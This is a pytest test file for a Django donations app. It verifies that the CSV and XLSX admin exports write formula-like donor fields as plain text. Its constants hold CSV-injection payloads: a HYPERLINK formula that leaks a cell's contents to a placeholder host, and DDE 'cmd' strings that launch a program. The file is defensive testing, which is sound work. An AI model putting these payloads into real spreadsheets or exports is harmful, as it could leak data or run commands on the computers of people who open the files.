"""Donor, gift, recurring-gift and receipt exports never carry a formula into a spreadsheet: a cell
typed by the public such as =HYPERLINK(...) is written as text (CSV with a leading apostrophe, XLSX as
a string cell)."""

import csv
import io

import openpyxl
import pytest
from django.contrib.auth.models import Group, Permission, User
from djmoney.money import Money

from donations import services
from donations.models import Frequency, RecurringGift
from tests.fixtures.donation_factories import DonationFactory, DonorFactory, aware

pytestmark = pytest.mark.django_db

HOSTILE_FIRST = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
HOSTILE_LAST = "+1+cmd|' /C calc'!A0"
HOSTILE_COMPANY = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_CITY = "-2+3"


@pytest.fixture
def hostile_records(donations_settings):
    donor = DonorFactory(
        email="hostile@example.org",
        first_name=HOSTILE_FIRST,
        last_name=HOSTILE_LAST,
        company_name=HOSTILE_COMPANY,
        city=HOSTILE_CITY,
    )
    gift = DonationFactory(donor=donor, amount=Money(50, "USD"), company_name=HOSTILE_COMPANY)
    services.donation_confirm(
        reference=gift.reference, amount_total=gift.amount, occurred_at=aware(2026, 5, 1)
    )
    RecurringGift.objects.create(
        donor=donor, frequency=Frequency.MONTHLY, amount=Money(20, "USD"), designation_label=HOSTILE_FIRST
    )
    return donor


@pytest.fixture
def development(client):
    user = User.objects.create_user(username="dev", password="pw", is_staff=True)
    group = Group.objects.get(name="Development")
    group.permissions.add(Permission.objects.get(codename="access_admin"))
    user.groups.add(group)
    client.force_login(user)
    return user


def _body(response) -> bytes:
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


EXPORTS = [
    "/admin/giving/donors/",
    "/admin/giving/gifts/",
    "/admin/giving/recurring/",
    "/admin/giving/receipts-list/",
]


@pytest.mark.parametrize("url", EXPORTS)
def test_csv_exports_write_formula_cells_as_text(client, development, hostile_records, url):
    rows = list(csv.reader(io.StringIO(_body(client.get(url, {"export": "csv"})).decode("utf-8-sig"))))

    cells = [cell for row in rows[1:] for cell in row]
    hostile = [cell for cell in cells if cell.lstrip("'")[:1] in ("=", "+", "-", "@")]
    assert hostile, rows  # the export does carry the hostile values...
    assert all(cell.startswith("'") for cell in hostile), hostile  # ...each one neutralised
    assert "'" + HOSTILE_FIRST in cells or "'" + HOSTILE_COMPANY in cells


@pytest.mark.parametrize("url", EXPORTS)
def test_xlsx_exports_write_formula_cells_as_strings(client, development, hostile_records, url):
    sheet = openpyxl.load_workbook(io.BytesIO(_body(client.get(url, {"export": "xlsx"})))).active

    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if isinstance(cell.value, str)]
    hostile = [cell for cell in cells if cell.value.lstrip("'")[:1] in ("=", "+", "@")]
    assert hostile
    assert all(cell.data_type == "s" for cell in hostile)


def test_the_donor_csv_keeps_ordinary_values_as_they_are(client, development, hostile_records):
    DonorFactory(email="plain@example.org", first_name="Ana", last_name="O'Neil", city="Springfield")

    rows = list(
        csv.DictReader(io.StringIO(_body(client.get(EXPORTS[0], {"export": "csv"})).decode("utf-8-sig")))
    )

    plain = next(row for row in rows if row["Email"] == "plain@example.org")
    assert (plain["First name"], plain["Last name"], plain["City"]) == ("Ana", "O'Neil", "Springfield")
    hostile = next(row for row in rows if row["Email"] == "hostile@example.org")
    assert hostile["First name"] == "'" + HOSTILE_FIRST
    assert hostile["City"] == "'" + HOSTILE_CITY
